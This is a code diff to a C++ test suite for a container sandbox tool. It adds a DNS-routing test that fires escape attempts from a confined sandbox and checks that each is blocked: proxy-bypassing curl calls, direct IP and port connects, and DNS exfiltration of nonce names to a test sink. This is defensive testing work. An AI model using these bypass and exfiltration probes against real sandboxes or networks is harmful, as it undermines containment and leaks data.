@@ -268,7 +268,8 @@ class EscapeTest : public ::testing::Test {
     for (const auto& [prefix, ip] : rebind_) allow += (allow.empty() ? "" : ", ") + prefix + ".escape-upstream.test";
     g.allowlist = "[" + allow + "]";
     g.extra = "  enforcement:\n    mode: enforce\n    network: internal\n    networkName: " + network_ +
-              "\n    networkSubnet: \"" + subnet_ + "\"\n  sandboxes:\n    - name: " + sandbox_ + "\n      image: \"" +
+              "\n    networkSubnet: \"" + subnet_ + "\"\n" + (routing_.empty() ? "" : "    routing: " + routing_ + "\n") +
+              "  sandboxes:\n    - name: " + sandbox_ + "\n      image: \"" +
               Env("IRONWARD_TEST_IMAGE", IRONWARD_TEST_IMAGE) +
               "\"\n      command: [\"sleep\", \"infinity\"]\n      mounts: [\"" + probe_dir_ +
               ":/opt/escape:ro\"]\n      resources: {memory: 64m, cpus: 0.5, pids: 64}\n";
@@ -447,8 +448,10 @@ class EscapeTest : public ::testing::Test {
       const std::string nonce = "dns" + RandomHex(6);
       const std::string out = Trim(Exec(Probe("dns " + ip + " " + nonce)));
       const bool saw = dns_->Saw(nonce);
+      // With DNS routing (the default here: both) the query is DNATed to the proxy's DNS, which
+      // answers it itself: a REPLY then comes from the proxy, and only the sink tells a leak.
       Blocked("dns udp/53 channel to " + label, out + (saw ? ", resolver GOT the name" : ", resolver saw nothing"),
-              !saw && out != "REPLY");
+              !saw && (RoutesDns() || out != "REPLY"));
     }
     {  // DNS over TCP/53 and other TCP ports on the resolver address: nothing listens on tcp/53, so a
        // connect attempt that is not dropped would answer ECONNREFUSED (reached) instead of a timeout.
@@ -608,6 +611,11 @@ class EscapeTest : public ::testing::Test {
     }
   }
 
+  bool RoutesDns() const { return routing_ != "proxy-variables"; }
+
+  /// enforcement.routing written into the desired state ("" = the default: both, as bind is
+  /// sandbox-network); set by a derived fixture's constructor.
+  std::string routing_;
   std::string docker_host_;
   std::unique_ptr<EngineApi> engine_;
   bool owns_table_ = false, added_addr_ = false, hosts_edited_ = false;
@@ -726,6 +734,211 @@ TEST_F(EscapeTest, NoEscapeFromAnEnforcedInternalSandbox) {
   }));
   table << "cases: " << cases << ", controls: " << rows_.size() - cases << " (failed: " << failed_controls
         << ")\nbypasses: " << bypasses << "\n";
+  std::cout << Redact(table.str()) << std::flush;
+  EXPECT_EQ(bypasses, 0) << "escape attempts that were not blocked (see the table)";
+  EXPECT_EQ(failed_controls, 0) << "a control failed: the cases above prove less than they claim";
+  EXPECT_EQ(transcript_.find(secret_), std::string::npos) << "the secret appeared in an output from a container";
+}
+
+
+// ===== enforcement.routing: dns ================================================================
+// The same confined sandbox with no proxy variables at all: its resolver is the proxy's DNS (the
+// gateway, via Docker's embedded resolver) and the table's nat chain steers UDP 53, TCP 80 and 443
+// to the proxy. Clients that ignore proxy variables (curl --noproxy '*', a raw getaddrinfo +
+// connect) must reach the allowlisted upstream only through the proxy, with the token swapped;
+// everything else must stay blocked, DNS exfiltration included. The upstream and a DNS sink listen
+// on a host address (198.51.100.77:443, :80, 0.0.0.0:53): the host's own services on those ports,
+// which the sandbox must never reach directly and which the host itself must still reach.
+class EscapeDnsRoutingTest : public EscapeTest {
+ protected:
+  EscapeDnsRoutingTest() { routing_ = "dns"; }
+  void SetUp() override {
+    EscapeTest::SetUp();
+    if (HasFatalFailure() || IsSkipped()) return;
+    const std::string d = pki_.str();
+    https443_ = std::make_unique<doubletest::Upstream>(d + "/up.crt", d + "/up.key", kUpstreamIp, 443);
+    http80_ = std::make_unique<doubletest::Upstream>("", "", kUpstreamIp, 80);
+    ASSERT_TRUE(https443_->ok()) << "port 443 on " << kUpstreamIp << " is taken";
+    ASSERT_TRUE(http80_->ok()) << "port 80 on " << kUpstreamIp << " is taken";
+  }
+  /// Whether any request the two host listeners saw since `before443`/`before80` holds `needle`.
+  bool Saw(std::size_t before443, std::size_t before80, const std::string& needle) {
+    for (auto* u : {https443_.get(), http80_.get()}) {
+      const auto reqs = u->Requests();
+      for (std::size_t i = u == https443_.get() ? before443 : before80; i < reqs.size(); ++i) {
+        if (reqs[i].find(needle) != std::string::npos) return true;
+      }
+    }
+    return false;
+  }
+  std::unique_ptr<doubletest::Upstream> https443_, http80_;
+};
+
+TEST_F(EscapeDnsRoutingTest, ClientsThatIgnoreProxyVariablesGoThroughTheProxyAndNothingElseLeaves) {
+  subject_ = sandbox_;
+  const std::string no_vars = "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy ";
+  // ----- controls ---------------------------------------------------------------------------
+  {
+    const std::string env_out = Exec("env");
+    const bool vars = env_out.find("HTTPS_PROXY=") != std::string::npos || env_out.find("HTTP_PROXY=") != std::string::npos;
+    Control("control: routing dns sets no proxy variables", "none", vars ? "set" : "none", !vars);
+    const auto inspect = engine_->Inspect(sandbox_);
+    const std::string dns = inspect.is_object() ? inspect["HostConfig"]["Dns"].dump() : "";
+    Control("control: the sandbox's resolver is the proxy (HostConfig.Dns)", "[\"" + gateway_ + "\"]", dns,
+            dns == "[\"" + gateway_ + "\"]");
+  }
+  {
+    const std::string out = Trim(Exec(Probe("resolve " + std::string(kProviderHost))));
+    Control("control: getaddrinfo of the allowlisted host answers the proxy", "ADDR:" + gateway_, out,
+            out == "ADDR:" + gateway_);
+  }
+  {  // Sandbox-to-sandbox names still come from Docker's embedded resolver: a container wired by
+     // `ironward wiring --format docker-args` (which must carry --dns) on the same network.
+    const std::string iw = "env " + docker_host_ + " " + Quote(Env("IRONWARD_BIN", IRONWARD_BIN)) + " --state-dir " +
+                           Quote(state_) + " wiring -f " + Quote(spec_);
+    const CmdResult args = Sh(iw + " --format docker-args --out " + Quote(tmp_.str() + "/peer.args"));
+    ASSERT_EQ(args.code, 0) << Redact(args.out);
+    const std::string args_text = ReadFile(tmp_.str() + "/peer.args");
+    Control("control: wiring docker-args carries --dns", "--dns=" + gateway_,
+            args_text.find("--dns=" + gateway_ + "\n") != std::string::npos ? "present" : "ABSENT",
+            args_text.find("--dns=" + gateway_ + "\n") != std::string::npos);
+    const std::string peer = name_ + "-peer";
+    const CmdResult run = Sh("env " + docker_host_ + " sh -c " +
+                             Quote("eval \"docker run -d --name " + peer + " --label ironward.test.run=" + name_ +
+                                   " $(tr '\\n' ' ' < " + tmp_.str() + "/peer.args) " +
+                                   Env("IRONWARD_TEST_IMAGE", IRONWARD_TEST_IMAGE) + " sleep infinity\""));
+    ASSERT_EQ(run.code, 0) << Redact(run.out);
+    const std::string out = Trim(Exec(Probe("resolve " + peer)));
+    const std::string prefix = gateway_.substr(0, gateway_.rfind('.') + 1);
+    Control("control: another sandbox's name resolves (embedded DNS)", "ADDR:" + prefix + "x", out,
+            out.rfind("ADDR:" + prefix, 0) == 0 && out != "ADDR:" + gateway_);
+  }
+  {  // curl ignoring proxy variables, HTTPS: the proxy terminates TLS by SNI and swaps the token.
+    const std::size_t before = https443_->Requests().size();
+    const std::string out = Trim(Exec(no_vars + "curl -sS --noproxy '*' --max-time 10 -H \"Authorization: Bearer $" +
+                                      std::string(kTokenVar) + "\" https://" + kProviderHost +
+                                      "/v1/chat; echo \" exit=$?\""));
+    const auto reqs = https443_->Requests();
+    const bool got_key = reqs.size() == before + 1 && reqs.back().find("Authorization: Bearer " + secret_) != std::string::npos &&
+                         reqs.back().find(token_) == std::string::npos;
+    Control("control: curl --noproxy '*' https://allowlisted -> proxy (SNI) -> upstream", "200, real key at upstream",
+            (out.find("upstream-ok exit=0") != std::string::npos ? std::string("200") : Redact(out)) +
+                (got_key ? ", real key at upstream" : ", upstream did NOT get the real key"),
+            out.find("upstream-ok exit=0") != std::string::npos && got_key);
+  }
+  {  // A raw client: getaddrinfo + connect to port 80 + a hand-written request.
+    const std::size_t before = http80_->Requests().size();
+    const std::string out = Trim(Exec(no_vars + Probe("http " + std::string(kProviderHost) + " /v1/chat " + kTokenVar)));
+    const auto reqs = http80_->Requests();
+    const bool got_key = reqs.size() == before + 1 && reqs.back().find("Authorization: Bearer " + secret_) != std::string::npos &&
+                         reqs.back().find(token_) == std::string::npos;
+    Control("control: raw getaddrinfo + connect :80 -> proxy -> upstream", gateway_ + " HTTP:200, real key at upstream",
+            out + (got_key ? ", real key at upstream" : ", upstream did NOT get the real key"),
+            out == gateway_ + " HTTP:200" && got_key);
+  }
+  {  // The host's own listeners are untouched for the host itself (the nat chain matches the bridge only).
+    const auto r = doubletest::Http("http://" + std::string(kUpstreamIp) + "/", {});
+    Control("control: host reaches its own :80 on " + std::string(kUpstreamIp), "200", std::to_string(r.status),
+            r.status == 200);
+    const std::string nonce = "hostctl" + RandomHex(6);
+    const CmdResult q = Sh(Quote(Env("ESCAPE_PROBE", ESCAPE_PROBE)) + " dns " + std::string(kUpstreamIp) + " " + nonce);
+    Control("control: host's DNS query to its own :53 reaches it", "sink got it",
+            Trim(q.out) + (dns_->Saw(nonce) ? ", sink got it" : ", sink saw nothing"), dns_->Saw(nonce));
+  }
+
+  {  // The operator's view: verify's dns-routing row and doctor's routing check on this live setup.
+    const std::string iw = "env " + docker_host_ + " " + Quote(Env("IRONWARD_BIN", IRONWARD_BIN)) + " --state-dir " +
+                           Quote(state_) + " ";
+    const CmdResult verify = Sh(iw + "verify -f " + Quote(spec_) + " --no-record -o json");
+    const auto v = nlohmann::json::parse(verify.out.substr(std::min(verify.out.find('{'), verify.out.size())), nullptr, false);
+    std::string row = "no dns-routing row";
+    bool row_pass = false;
+    if (v.is_object() && v.contains("checks")) {
+      for (const auto& c : v["checks"]) {
+        if (c.value("check", "").rfind("dns-routing", 0) == 0) {
+          row = c.value("got", "") + " (" + c.value("result", "") + ")";
+          row_pass = c.value("result", "") == "pass";
+        }
+      }
+    }
+    Control("control: ironward verify dns-routing row", "resolves to the proxy, answered", row, row_pass);
+    Control("control: ironward verify passes in dns mode", "exit 0", "exit " + std::to_string(verify.code) +
+            (verify.code == 0 ? "" : ": " + Redact(Tail(verify.out, 600))), verify.code == 0);
+    const CmdResult doctor = Sh(iw + "doctor -f " + Quote(spec_) + " -o json");
+    const auto d = nlohmann::json::parse(doctor.out.substr(std::min(doctor.out.find('{'), doctor.out.size())), nullptr, false);
+    std::string check = "no routing check";
+    bool check_pass = false;
+    if (d.is_object() && d.contains("checks")) {
+      for (const auto& c : d["checks"]) {
+        if (c.value("check", "") == "routing") {
+          check = c.value("result", "") + ": " + c.value("detail", "");
+          check_pass = c.value("result", "") == "pass";
+        }
+      }
+    }
+    Control("control: ironward doctor routing check", "pass", check, check_pass);
+  }
+
+  // ----- escape cases -----------------------------------------------------------------------
+  {
+    const std::size_t before443 = https443_->Requests().size(), before80 = http80_->Requests().size();
+    const std::string out = Trim(Exec(no_vars + "curl -sS -o /dev/null --noproxy '*' --max-time 8 -w '%{http_code}' -H "
+                                      "\"Authorization: Bearer $" + std::string(kTokenVar) + "\" https://" +
+                                      kNotAllowlisted + "/ 2>/dev/null; echo \" exit=$?\""));
+    const bool reached = https443_->Requests().size() != before443 || http80_->Requests().size() != before80;
+    Blocked("dns mode: https to a non-allowlisted name", out + (reached ? ", upstream reached" : ", upstream saw nothing"),
+            out.rfind('2', 0) != 0 && !reached);
+  }
+  for (const auto& [what, url] : std::vector<std::pair<std::string, std::string>>{
+           {"hard-coded IP https :443 (no SNI)", "https://" + std::string(kUpstreamIp) + "/"},
+           {"hard-coded IP http :80", "http://" + std::string(kUpstreamIp) + "/"},
+           {"docker0 http :80", "http://" + docker0_ + "/"},
+           {"gateway https :443", "https://" + gateway_ + "/"}}) {
+    const std::size_t before443 = https443_->Requests().size(), before80 = http80_->Requests().size();
+    const std::string out = Trim(Exec(no_vars + "curl -sS -k -o /dev/null --noproxy '*' --max-time 8 -w '%{http_code}' " +
+                                      Quote(url) + " 2>/dev/null; echo \" exit=$?\""));
+    const bool reached = https443_->Requests().size() != before443 || http80_->Requests().size() != before80;
+    Blocked("dns mode: " + what, out + (reached ? ", host listener reached" : ", host listener saw nothing"),
+            out.rfind('2', 0) != 0 && !reached);
+  }
+  const std::string ups = std::to_string(upstream_->port());
+  TcpCase("dns mode: hard-coded IP, other port " + std::string(kUpstreamIp) + ":" + ups, kUpstreamIp, upstream_->port());
+  TcpCase("dns mode: docker0, other port " + docker0_ + ":" + ups, docker0_, upstream_->port());
+  TcpCase("dns mode: dns tcp/53 to " + std::string(kUpstreamIp) + " (not steered, dropped)", kUpstreamIp, 53);
+  {  // DNS exfiltration through Docker's embedded resolver (getaddrinfo, and a query to 127.0.0.11).
+    const std::string nonce = "exfil" + RandomHex(6);
+    const std::string out = Trim(Exec(Probe("resolve " + nonce + ".escape.test")));
+    Blocked("dns mode: exfiltration via getaddrinfo (embedded resolver)",
+            out + (dns_->Saw(nonce) ? ", sink GOT the name" : ", sink saw nothing"),
+            !dns_->Saw(nonce) && out == "ADDR:" + gateway_);
+    const std::string nonce2 = "exfil" + RandomHex(6);
+    const std::string out2 = Trim(Exec(Probe("dnsq 127.0.0.11 " + nonce2 + ".escape.test")));
+    Blocked("dns mode: exfiltration via a query to 127.0.0.11",
+            out2 + (dns_->Saw(nonce2) ? ", sink GOT the name" : ", sink saw nothing"),
+            !dns_->Saw(nonce2) && out2 == "ANSWER:" + gateway_);
+  }
+  for (const auto& [label, ip] : std::vector<std::pair<std::string, std::string>>{
+           {"host resolver " + std::string(kUpstreamIp), kUpstreamIp},
+           {"docker0 " + docker0_, docker0_},
+           {"public resolver 8.8.8.8", "8.8.8.8"},
+           {"sandbox gateway " + gateway_, gateway_}}) {
+    const std::string nonce = "exfil" + RandomHex(6);
+    const std::string out = Trim(Exec(Probe("dnsq " + ip + " " + nonce + ".escape.test")));
+    // DNATed to the proxy's DNS, which answers with its own address and asks nobody.
+    Blocked("dns mode: dns query to " + label, out + (dns_->Saw(nonce) ? ", sink GOT the name" : ", sink saw nothing"),
+            !dns_->Saw(nonce) && (out == "ANSWER:" + gateway_ || out == "NOREPLY"));
+  }
+
+  // ----- the table --------------------------------------------------------------------------
+  int bypasses = 0, failed_controls = 0;
+  std::ostringstream table;
+  for (const auto& r : rows_) {
+    std::string got = Redact(r.got);
+    if (!r.ok) got += r.control ? "   <-- CONTROL FAILED" : "   <-- BYPASS";
+    table << r.name << " | " << r.expected << " | " << got << "\n";
+    if (!r.ok) (r.control ? failed_controls : bypasses) += 1;
+  }
+  table << "bypasses: " << bypasses << "\n";
   std::cout << Redact(table.str()) << std::flush;
   EXPECT_EQ(bypasses, 0) << "escape attempts that were not blocked (see the table)";
   EXPECT_EQ(failed_controls, 0) << "a control failed: the cases above prove less than they claim";
